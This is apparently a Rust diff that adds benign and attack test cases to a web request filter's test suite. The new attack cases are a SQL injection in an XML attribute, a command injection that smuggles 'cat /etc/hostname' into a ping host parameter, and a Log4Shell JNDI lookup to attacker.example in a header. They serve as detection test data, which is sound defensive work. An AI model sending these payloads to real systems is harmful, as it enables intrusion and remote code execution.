@@ -637,6 +637,9 @@ pub fn benign_cases() -> Vec<Case> {
             .body("application/json", br#"{"customer":{"name":"Rock 'n' Roll Ltd","email":"a.b@example.com"},"items":[{"sku":"A-100","qty":2,"price":9.99}],"note":"Leave at the door, thanks!"}"#),
         Case::new("multipart upload", "POST", "/upload")
             .body("multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW", &multipart_body(b, "title", "Holiday photos 2024 - day 1")),
+        Case::new("search with shell punctuation", "GET", "/search?q=Tom+%26+Jerry%3B+cat+toys&fields=name%7Cid%7Cprice"),
+        Case::new("XML order", "POST", "/api/orders.xml")
+            .body("application/xml", br#"<?xml version="1.0"?><order id="A-1001"><item sku="SKU-1" qty="2">Blue shirt, size M</item><note>O'Brien's gift &amp; card; id on the box</note></order>"#),
     ]
 }
 
@@ -677,5 +680,16 @@ pub fn attack_cases() -> Vec<Case> {
             "multipart/form-data; boundary=XyZb0undary",
             &multipart_body(b, "title", "<svg/onload=alert(1)>"),
         ),
+        Case::new("SQLi in XML attribute", "POST", "/api/orders.xml").body(
+            "application/xml",
+            br#"<?xml version="1.0"?><order id="1 OR 1=1"></order>"#,
+        ),
+        Case::new(
+            "command injection in query",
+            "GET",
+            "/ping?host=127.0.0.1%3Bcat%20%2Fetc%2Fhostname",
+        ),
+        Case::new("Log4Shell in a custom header", "GET", "/")
+            .header("X-Api-Version", "${jndi:ldap://attacker.example/a}"),
     ]
 }
